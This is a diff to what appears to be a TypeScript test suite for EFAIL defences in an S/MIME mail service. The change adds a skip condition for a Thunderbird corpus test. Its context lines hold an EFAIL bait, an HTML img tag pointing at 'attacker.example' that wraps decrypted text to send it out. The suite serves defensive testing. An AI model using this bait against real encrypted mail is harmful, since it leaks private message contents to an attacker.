@@ -27,6 +27,7 @@ import { buildSignedData } from '../fixtures/pki/signed-data-builder.ts';
 import type { Client } from '../helpers/app.ts';
 import { databaseTargets } from '../helpers/db.ts';
 import { corpusP12, decodeContent, multipartMixed, multipartSigned, pkcs7Mime, pkcs7MimePart, placeKey, read, thunderbird, unlockHeader , startServerTrusting } from './world.ts';
+import { corpusUnavailable } from '../helpers/unavailable.ts';
 
 const BOB = 'bob@example.com';
 const PASS = 'bob own passphrase 22';
@@ -34,6 +35,8 @@ const SECRET = 'The merger closes on Friday: captured secret 4e1d';
 const NSS_TEXT = 'This is a test message from Alice to Bob.';
 const BAIT_OPEN = Buffer.from('Content-Type: text/html\r\n\r\n<img src="https://attacker.example/?');
 const BAIT_CLOSE = Buffer.from('Content-Type: text/html\r\n\r\n">');
+
+const NO_CORPUS = corpusUnavailable("the case with Thunderbird's two encrypted alternatives");
 
 for (const target of await databaseTargets()) {
   describe(`two encrypted parts (EFAIL) on ${target.name}`, () => {
@@ -81,7 +84,7 @@ for (const target of await databaseTargets()) {
       }
     });
 
-    test("Thunderbird's corpus: two separately encrypted alternatives", async () => {
+    test("Thunderbird's corpus: two separately encrypted alternatives", { skip: NO_CORPUS }, async () => {
       const r = await readAsBob(thunderbird('mail-test-browser-smime-data/multipart-alternative.eml'));
       assert.equal(r.status, 200, r.text);
       assert.deepEqual(r.body.layers, []);
